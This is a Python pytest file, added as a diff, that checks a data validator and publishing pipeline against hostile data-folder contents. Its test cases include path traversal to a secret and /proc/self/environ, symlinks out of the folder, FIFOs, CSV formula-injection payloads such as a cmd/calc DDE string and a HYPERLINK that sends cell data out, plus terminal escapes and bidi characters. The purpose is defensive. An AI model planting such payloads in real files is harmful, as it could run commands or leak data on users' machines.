@@ -1,0 +1,429 @@
+"""The reliability attack, round three (issue 23): the data folder is input, not trusted code.
+
+Its descriptor, READMEs, links and files are checked before anything is read or published: a
+resource path or package name never reaches outside the data folder or outputs/, a link out of the
+data folder is refused, a FIFO never hangs the validator, a spreadsheet formula or an invisible
+character never reaches a published CSV, and a value is read the way its source's language writes
+it. Driven through ``python -m helpers.data`` (``make validate``) and the runner's command line.
+"""
+
+from __future__ import annotations
+
+import csv
+import json
+import os
+import shutil
+from pathlib import Path
+
+import pytest
+
+from attack_support import (
+    copy_site,
+    edit_csv,
+    edit_descriptor,
+    first_row,
+    fresh,
+    manifest_of,
+    no_traceback,
+    publish_once,
+    published_bytes,
+    rows_of,
+    run,
+    run_cmd,
+    tree,
+    unprivileged,
+    validate,
+    validate_cmd,
+    write_rows,
+    zip_entries,
+)
+from helpers.paths import NOTEBOOKS_DIR
+from reports_support import runner_cmd, write_config
+
+SECRET = "SECRET-7f3a9c"
+
+
+@pytest.fixture(scope="module")
+def published(tmp_path_factory):
+    return publish_once(tmp_path_factory.mktemp("published"))
+
+
+@pytest.fixture
+def site(published, tmp_path) -> dict:
+    return copy_site(published, tmp_path)
+
+
+# --- the descriptor and the files the data page publishes ----------------------------------------
+
+
+def _secret(tmp: Path) -> Path:
+    secret = tmp / "secret.txt"
+    secret.write_text(f"{SECRET}\n", encoding="utf-8")
+    return secret
+
+
+def _resource_path(value):
+    def setup(data: Path, tmp: Path):
+        target = value(tmp) if callable(value) else value
+        edit_descriptor(data, lambda p: _resource(p, "country_aliases").__setitem__("path", target))
+
+    return setup
+
+
+def _resource(package: dict, name: str) -> dict:
+    return next(r for r in package["resources"] if r["name"] == name)
+
+
+def _package_name(name: str):
+    return lambda data, tmp: edit_descriptor(data, lambda p: p.__setitem__("name", name))
+
+
+def _link_out(rel: str):
+    def setup(data: Path, tmp: Path):
+        (data / rel).unlink()
+        (data / rel).symlink_to(_secret(tmp))
+
+    return setup
+
+
+def _csv_link_out(data: Path, tmp: Path):
+    outside = tmp / "aliases-elsewhere.csv"
+    shutil.copy(data / "country_aliases.csv", outside)
+    (data / "country_aliases.csv").unlink()
+    (data / "country_aliases.csv").symlink_to(outside)
+
+
+def _raw_file_outside(data: Path, tmp: Path):
+    shutil.copy(data / "raw" / "un-egdi" / "egdi-2010.csv", tmp / "outside.csv")
+    edit_csv(
+        data / "raw" / "un-egdi" / "manifest.csv",
+        lambda h, rows: first_row(h, rows, file="egdi-2010.csv").__setitem__(
+            h.index("file"), "../../../outside.csv"
+        ),
+    )
+
+
+def _invalid_json(data: Path, tmp: Path):
+    (data / "datapackage.json").write_text('{"name": "x", "resources": [', encoding="utf-8")
+
+
+def _descriptor_edit(edit):
+    return lambda data, tmp: edit_descriptor(data, edit)
+
+
+# (case, edit of the data folder, words the message must hold: the file, the field, the value)
+DESCRIPTOR = [
+    ("resource path absolute", _resource_path(lambda t: str(_secret(t))), ["datapackage.json", "path", "/"]),
+    ("resource path climbs out", _resource_path("../secret.txt"), ["datapackage.json", "path", "../secret.txt"]),
+    ("resource path /proc/self/environ", _resource_path("/proc/self/environ"), ["datapackage.json", "/proc/self/environ"]),
+    ("package name climbs out", _package_name("../../victim"), ["datapackage.json", "name", "../../victim"]),
+    ("package name with a slash", _package_name("a/b"), ["datapackage.json", "name", "a/b"]),
+    ("package name empty", _package_name(""), ["datapackage.json", "name"]),
+    ("README a link out", _link_out("README.md"), ["README.md", "symbolic link"]),
+    ("raw README a link out", _link_out("raw/un-egdi/README.md"), ["raw/un-egdi/README.md", "symbolic link"]),
+    ("CSV a link out", _csv_link_out, ["country_aliases.csv", "symbolic link"]),
+    ("raw table outside", _raw_file_outside, ["raw/un-egdi/manifest.csv", "file", "../../../outside.csv"]),
+    ("descriptor not JSON", _invalid_json, ["datapackage.json:1", "JSON"]),
+    ("licenses a string", _descriptor_edit(lambda p: p.__setitem__("licenses", "CC-BY-4.0")), ["datapackage.json", "licenses"]),
+    ("path a list", _descriptor_edit(lambda p: _resource(p, "figures").__setitem__("path", ["figures.csv"])), ["datapackage.json", "path"]),
+    ("NUL in a name", _descriptor_edit(lambda p: _resource(p, "figures").__setitem__("name", "fig\x00ures")), ["datapackage.json", "name", "\\x00"]),
+    ("resources not a list", _descriptor_edit(lambda p: p.__setitem__("resources", {"figures": 1})), ["datapackage.json", "resources"]),
+    ("descriptor a list", lambda d, t: (d / "datapackage.json").write_text("[]", encoding="utf-8"), ["datapackage.json", "object"]),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("case", "edit", "says"), DESCRIPTOR, ids=[c[0] for c in DESCRIPTOR])
+def test_validation_refuses_a_descriptor_or_file_that_reaches_outside(tmp_path, data_copy, case, edit, says):
+    edit(data_copy, tmp_path)
+    r = validate(data_copy)
+    no_traceback(r)
+    assert r.returncode == 1, r.stdout + r.stderr
+    for word in says:
+        assert word in r.stderr, (word, r.stderr[-3000:])
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(("case", "edit", "says"), DESCRIPTOR, ids=[c[0] for c in DESCRIPTOR])
+def test_a_build_never_publishes_or_writes_outside_its_folders(tmp_path, case, edit, says):
+    s = fresh(tmp_path)
+    secret = _secret(tmp_path)
+    edit(s["data"], tmp_path)
+    before = tree(tmp_path, skip=("outputs",))
+    r = run(s, "build", "--jobs", "1", env={**os.environ, "SECRET_TOKEN": SECRET})
+    no_traceback(r)
+    assert r.returncode == 1, r.stdout[-2000:] + r.stderr[-2000:]
+    for word in says:
+        assert word in r.stderr, (word, r.stderr[-3000:])
+    assert tree(tmp_path, skip=("outputs",)) == before  # nothing written, moved or deleted outside
+    assert secret.read_text(encoding="utf-8") == f"{SECRET}\n"
+    leaked = [name for name, data in published_bytes(s["outputs"]) if SECRET.encode() in data]
+    assert not leaked, leaked
+
+
+DOCUMENTS = [
+    # (case, edit, the zip entry that must show it, the text it must hold)
+    ("README edited", lambda d: _append(d / "README.md", "\nEdited README line.\n"), "README.md", "Edited README line."),
+    ("raw README edited", lambda d: _append(d / "raw/un-egdi/README.md", "\nEdited raw line.\n"), "raw/un-egdi/README.md", "Edited raw line."),
+    (
+        "licence edited",
+        lambda d: edit_descriptor(d, lambda p: p["licenses"][0].__setitem__("title", "Edited licence title")),
+        "LICENSE.txt",
+        "Edited licence title",
+    ),
+]  # fmt: skip
+
+
+def _append(path: Path, text: str) -> None:
+    path.write_text(path.read_text(encoding="utf-8") + text, encoding="utf-8")
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(("case", "edit", "entry", "holds"), DOCUMENTS, ids=[c[0] for c in DOCUMENTS])
+def test_the_documents_the_data_page_publishes_are_part_of_the_data_version(site, case, edit, entry, holds):
+    version = manifest_of(site["outputs"])["data_version"]
+    edit(site["data"])
+    r = run(site, "build")
+    no_traceback(r)
+    assert r.returncode == 0, r.stderr[-2000:]
+    assert manifest_of(site["outputs"])["data_version"] != version
+    entries = zip_entries(site["outputs"])
+    [name] = [n for n in entries if n.split("/", 1)[1] == entry]
+    assert holds in entries[name].decode("utf-8")
+
+
+# --- values read as their sources write them ----------------------------------------------------
+
+
+def _languages(data: Path) -> dict[str, str]:
+    return {r["id"]: r["language"] for r in csv.DictReader((data / "sources.csv").open(encoding="utf-8"))}
+
+
+def _kinds(data: Path) -> dict[str, str]:
+    return {r["id"]: r["kind"] for r in csv.DictReader((data / "indicators.csv").open(encoding="utf-8"))}
+
+
+def _a_row(data: Path, file: str, lang: str, kinds) -> tuple[list[str], list[list[str]], list[str]]:
+    """The rows of ``file`` and its first row quoted from a source in ``lang``, of an indicator of
+    one of ``kinds``, not derived."""
+    rows = rows_of(data / file)
+    header = rows[0]
+    langs, kind_of = _languages(data), _kinds(data)
+    row = next(
+        r
+        for r in rows[1:]
+        if langs.get(r[header.index("source_id")]) == lang
+        and kind_of.get(r[header.index("indicator")]) in kinds
+        and ("derived" not in header or r[header.index("derived")] != "true")
+    )
+    return header, rows, row
+
+
+QUOTES = [
+    # (case, file, the source's language, value refused, quote, value the quote does state)
+    ("a thousand times too small", "figures.csv", "vi", "1013000", "Năm 2024, nền tảng đạt 1.013 triệu giao dịch.", "1013000000"),
+    ("a year taken as the value", "figures.csv", "en", "2021", "Transactions reached 180,919,031 in 2021.", "180919031"),
+    ("a date taken as the value", "figures.csv", "en", "31", "As of 31/12/2023 there were 5,400,000 accounts.", "5400000"),
+    ("a target year taken as the value", "targets.csv", "vi", "2025", "Đến năm 2025, 80% dịch vụ công được cung cấp trực tuyến.", "80"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("case", "file", "lang", "value", "quote", "stated"), QUOTES, ids=[q[0] for q in QUOTES]
+)
+def test_a_value_is_read_as_its_sources_language_writes_it(data_copy, case, file, lang, value, quote, stated):
+    kinds = ("share",) if file == "targets.csv" else ("flow", "stock")
+    header, rows, row = _a_row(data_copy, file, lang, kinds)
+    line = rows.index(row) + 1
+    row[header.index("quote")] = quote
+    row[header.index("value")] = stated
+    write_rows(data_copy / file, rows)
+    r = validate(data_copy)
+    assert r.returncode == 0, r.stderr[-2000:]  # the quote does state this value
+    row[header.index("value")] = value
+    write_rows(data_copy / file, rows)
+    r = validate(data_copy)
+    no_traceback(r)
+    assert r.returncode == 1, r.stdout
+    assert f"{file}:{line}: column 'value': value '{value}'" in r.stderr, r.stderr[-2000:]
+
+
+# --- files that are not regular files -----------------------------------------------------------
+
+
+def _folder(rel: str):
+    def setup(data: Path):
+        (data / rel).unlink()
+        (data / rel).mkdir()
+        return ()
+
+    return setup
+
+
+def _fifo(rel: str, replace: bool = True):
+    def setup(data: Path):
+        if replace:
+            (data / rel).unlink()
+        os.mkfifo(data / rel)
+        return ()
+
+    return setup
+
+
+def _unreadable(rel: str):
+    def setup(data: Path):
+        (data / rel).chmod(0)
+        return unprivileged()
+
+    return setup
+
+
+SPECIAL = [
+    # (case, setup returning a command prefix, what the message names)
+    ("figures.csv a folder", _folder("figures.csv"), ["figures.csv", "a regular file"]),
+    ("indicators.csv unreadable", _unreadable("indicators.csv"), ["indicators.csv", "readable"]),
+    ("claims.csv a FIFO", _fifo("claims.csv"), ["claims.csv", "a regular file"]),
+    (
+        "raw manifest a FIFO",
+        _fifo("raw/un-egdi/manifest.csv"),
+        ["raw/un-egdi/manifest.csv", "a regular file"],
+    ),
+    ("another CSV a FIFO", _fifo("notes.csv", replace=False), ["notes.csv", "a regular file"]),
+]
+
+
+@pytest.mark.parametrize(("case", "setup", "says"), SPECIAL, ids=[c[0] for c in SPECIAL])
+def test_validation_refuses_what_is_not_a_regular_file_before_reading_it(data_copy, case, setup, says):
+    prefix = setup(data_copy)
+    # A timeout only guards the suite against the hang being tested for (a FIFO is never opened).
+    r = run_cmd(validate_cmd(data_copy), prefix=prefix, timeout=60)
+    no_traceback(r)
+    assert r.returncode == 1, r.stdout + r.stderr
+    for word in says:
+        assert word in r.stderr, (word, r.stderr[-2000:])
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(("case", "setup", "says"), SPECIAL, ids=[c[0] for c in SPECIAL])
+def test_a_build_refuses_what_is_not_a_regular_file_before_reading_it(site, case, setup, says):
+    before = tree(site["outputs"])
+    prefix = setup(site["data"])
+    cmd = runner_cmd(site["config"], site["outputs"], site["data"], "build")
+    r = run_cmd(cmd, prefix=prefix, timeout=120)
+    no_traceback(r)
+    assert r.returncode == 1, r.stdout[-2000:] + r.stderr[-2000:]
+    for word in says:
+        assert word in r.stderr, (word, r.stderr[-2000:])
+    assert tree(site["outputs"]) == before
+
+
+# --- what a spreadsheet or a terminal would run or hide ------------------------------------------
+
+FORMULAS = [
+    # (case, file, column, value)
+    ("figures note", "figures.csv", "note", '=HYPERLINK("http://example.com/?"&A1,"click")'),
+    ("sources publisher", "sources.csv", "publisher", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("indicators name", "indicators.csv", "name_en", "+1+cmd|' /C calc'!A0"),
+    ("claims note", "claims.csv", "note", "-2+3+cmd|' /C calc'!A0"),
+    ("targets instrument", "targets.csv", "instrument", "=1+1"),
+]
+
+
+@pytest.mark.parametrize(("case", "file", "column", "value"), FORMULAS, ids=[f[0] for f in FORMULAS])
+def test_spreadsheet_formulas_in_text_fields_are_refused(data_copy, case, file, column, value):
+    edit_csv(data_copy / file, lambda h, rows: rows[0].__setitem__(h.index(column), value))
+    r = validate(data_copy)
+    no_traceback(r)
+    assert r.returncode == 1, r.stdout
+    assert f"{file}:2: column '{column}'" in r.stderr and "formula" in r.stderr, r.stderr[-2000:]
+
+
+def _invalidate_most_cited_sources(data: Path, n: int = 3) -> list[str]:
+    from collections import Counter
+
+    cited = Counter()
+    for file in ("figures.csv", "claims.csv", "targets.csv"):
+        cited.update(r["source_id"] for r in csv.DictReader((data / file).open(encoding="utf-8")))
+    ids = [s for s, _ in cited.most_common(n)]
+    edit_csv(
+        data / "sources.csv",
+        lambda h, rows: [r.__setitem__(h.index("language"), "xx") for r in rows if r[0] in ids],
+    )
+    return ids
+
+
+def test_root_causes_are_listed_first(data_copy):
+    ids = _invalidate_most_cited_sources(data_copy)
+    r = validate(data_copy)
+    no_traceback(r)
+    assert r.returncode == 1
+    lines = r.stderr.splitlines()
+    assert "more problems" in r.stderr, r.stderr[-500:]  # more than are listed
+    assert lines[1].strip().startswith("sources.csv:"), lines[:4]
+    listed = "\n".join(lines[: 1 + len(ids)])
+    assert all("column 'language'" in ln for ln in listed.splitlines()[1:]), listed
+
+
+INVISIBLE = [
+    # (case, file, column, value, what the message must show instead of the raw characters)
+    ("BOM inside the file", "figures.csv", "indicator", "\ufeffegdi_rank", "\\ufeff"),
+    ("terminal control sequence", "figures.csv", "entity", "\x1b[2J\x1b[31mVNM", "\\x1b[2J"),
+]
+
+
+@pytest.mark.parametrize(
+    ("case", "file", "column", "value", "shown"), INVISIBLE, ids=[i[0] for i in INVISIBLE]
+)
+def test_invisible_and_control_characters_are_shown_escaped(data_copy, case, file, column, value, shown):
+    edit_csv(data_copy / file, lambda h, rows: rows[0].__setitem__(h.index(column), value))
+    r = validate(data_copy)
+    no_traceback(r)
+    assert r.returncode == 1
+    assert shown in r.stderr and f"{file}:2: column '{column}'" in r.stderr, r.stderr[-2000:]
+    assert not any(ch in r.stderr for ch in "\ufeff\x1b"), ascii(r.stderr[-2000:])
+
+
+HIDDEN = [
+    # (case, file, column, character inserted, how the message shows it)
+    ("bidi override in a publisher", "sources.csv", "publisher", "\u202e", "\\u202e"),
+    ("zero-width space in a quote", "figures.csv", "quote", "\u200b", "\\u200b"),
+    ("zero-width joiner in a title", "sources.csv", "title", "\u200d", "\\u200d"),
+]
+
+
+@pytest.mark.parametrize(("case", "file", "column", "char", "shown"), HIDDEN, ids=[h[0] for h in HIDDEN])
+def test_direction_overrides_and_zero_width_characters_are_refused(
+    data_copy, case, file, column, char, shown
+):
+    def insert(h, rows):
+        cell = rows[0][h.index(column)]
+        rows[0][h.index(column)] = cell[:1] + char + cell[1:]
+
+    edit_csv(data_copy / file, insert)
+    r = validate(data_copy)
+    no_traceback(r)
+    assert r.returncode == 1, r.stdout
+    assert f"{file}:2: column '{column}'" in r.stderr and shown in r.stderr, r.stderr[-2000:]
+
+
+# --- data text in a page's findings -------------------------------------------------------------
+
+
+@pytest.mark.slow
+def test_dollar_signs_and_underscores_in_a_name_are_shown_literally_in_findings(site):
+    name = "NDXP US$ 5 e_gov *all* $3"
+    edit_csv(
+        site["data"] / "indicators.csv",
+        lambda h, rows: first_row(h, rows, id="ndxp_transactions").__setitem__(h.index("name_en"), name),
+    )
+    config = write_config(
+        site["tmp"] / "ndxp.yaml",
+        [{"name": "ndxp", "notebook": str(NOTEBOOKS_DIR / "02_ndxp_transactions.ipynb")}],
+    )
+    r = run(site, "build", config=config)
+    no_traceback(r)
+    assert r.returncode == 0, r.stdout[-3000:]
+    page = (site["outputs"] / "reports" / "ndxp" / "index.html").read_text(encoding="utf-8")
+    findings = page[page.index('class="findings"') :]
+    findings = findings[: findings.index("</section>")]
+    assert f"<li>{name}:" in findings, findings
+    assert "\\_" not in page and "\\*" not in page, json.dumps(findings)
